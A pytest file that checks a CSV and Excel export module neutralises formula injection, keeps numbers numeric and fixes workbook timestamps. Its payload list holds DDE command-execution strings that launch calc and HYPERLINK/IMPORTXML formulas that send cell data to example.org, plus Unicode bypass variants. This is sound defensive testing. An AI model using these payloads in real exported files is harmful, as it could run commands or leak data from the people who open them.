"""Files that leave: numbers are numbers, text is text, and no formula can fire in either form."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from consortium.tables_out import Sheet, harmless, write_csv, write_workbook

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://example.org?leak="&A1,"press")', '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1+1", "−1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\x00=1+1",
    "\xa0=1+1", "\u3000=1+1", "\x1b=1+1", '=1+1;,"x"', '=DDE("cmd";"/C calc";"x")', "-2+3+cmd|' /C calc'!A0",
    "\x0b=1", "=" * 9, "+", "-", "=\ud800", "= 1", "@",
]  # fmt: skip
PLAIN = [
    "",
    "很好",
    "a=b",
    "1-2",
    "'=1",
    " =1",
    "#REF!",
    "TRUE",
    "1e5",
    "2026-10",
    "007",
    "中文，标点",
    "\U0001f600",
    "x\ty",
]


def reopened(*rows):
    book = openpyxl.load_workbook(io.BytesIO(write_workbook([Sheet("t", ("text", "n"), rows)])))
    return list(book["t"].iter_rows(min_row=2))


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_csv_cell_begins_like_a_formula(payload):
    content = write_csv((payload,), [(payload,)])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig").replace("\0", "?"), newline="")))
    assert all(cell.startswith("'") for row in rows for cell in row)


def test_no_workbook_cell_is_a_formula():
    cells = [row[0] for row in reopened(*((payload, 1) for payload in FORMULAS))]
    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULAS)
    assert all(cell.quotePrefix for cell in cells if harmless(cell.value).startswith("'"))


def test_no_header_is_a_formula_either():
    book = openpyxl.load_workbook(io.BytesIO(write_workbook([Sheet("=1", ("=1+1", "+x"), [])])))
    assert [cell.data_type for cell in book.active[1]] == ["s", "s"]


def test_numbers_stay_numbers_in_both_forms():
    row = (7, Decimal("-12.50"), None, "-3", 12345678901234567)
    assert write_csv(("a",), [row]).decode("utf-8-sig").splitlines()[1] == "7,-12.50,,'-3,12345678901234567"
    cells = reopened(row)[0]
    assert [cell.value for cell in cells] == [7, -12.5, None, "-3", "12345678901234567"]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "s", "s"]


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_left_as_it_is(text):
    assert harmless(text) == text
    assert (reopened((text, 1))[0][0].value or "") == text
    assert next(csv.reader(io.StringIO(write_csv((text, "x"), []).decode("utf-8-sig")))) == [text, "x"]


def test_what_looks_escaped_in_a_workbook_is_not_read_as_something_else():
    assert reopened(("_x003D_1+1", 1))[0][0].value in ("_x003D_1+1", "_x005F_x003D_1+1")


def test_a_cell_is_never_longer_than_a_spreadsheet_takes():
    assert len(reopened(("长" * 40_000, 1))[0][0].value) == 32_767


def test_several_sheets_hold_their_headers_in_place():
    book = openpyxl.load_workbook(io.BytesIO(write_workbook([Sheet("a", ("x",), []), Sheet("b", ("y",), [("1",)])])))
    assert (book.sheetnames, book["b"].freeze_panes, book["b"]["A2"].value) == (["a", "b"], "A2", "1")


def test_a_workbook_does_not_say_when_it_was_written() -> None:
    book = zipfile.ZipFile(io.BytesIO(write_workbook([Sheet("a", ("unit", "total"), (("jia", Decimal("83.4")),))])))
    assert {each.date_time for each in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    moments = re.findall(r"<dcterms:(created|modified)[^>]*>([^<]*)", book.read("docProps/core.xml").decode())
    assert dict(moments) == dict.fromkeys(("created", "modified"), "1980-01-01T00:00:00Z")
